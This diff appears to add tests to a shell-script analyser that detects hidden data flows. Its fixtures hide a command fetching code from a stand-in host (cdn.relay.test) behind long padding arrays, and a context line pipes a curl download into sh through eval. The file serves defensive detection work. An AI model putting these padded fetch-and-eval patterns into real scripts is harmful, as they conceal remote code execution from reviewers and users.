@@ -26,6 +26,23 @@ describe("a script that makes much of little is given up and said so", () => {
   });
 });
 
+describe("a long list", () => {
+  const LIST = `a=(${"x ".repeat(1_500)} "$(curl -s https://cdn.relay.test/i)")\n`;
+
+  it("is kept to its end", () => {
+    const { facts, unread } = analyseShell(source(`${LIST}eval "$\{a[@]}"\n`, "shell"));
+    expect({ unread, flows: facts.filter(({ kind }) => kind === "flow").length }).toEqual({
+      unread: undefined,
+      flows: 1,
+    });
+  });
+
+  it("that grows beyond what is kept is reported", () => {
+    const { unread } = analyseShell(source(`${LIST}a+=(y)\n`, "shell"));
+    expect(unread).toBe("a list grows to more than 1000 elements");
+  });
+});
+
 it("a payload behind more padding than is kept is reported as not read", () => {
   const text = `${DOUBLED}s="$s;curl -s https://cdn.relay.test/i | sh"\neval ":;$s"\n`;
   expect(analyseShell(source(text, "shell")).unread).toBe(
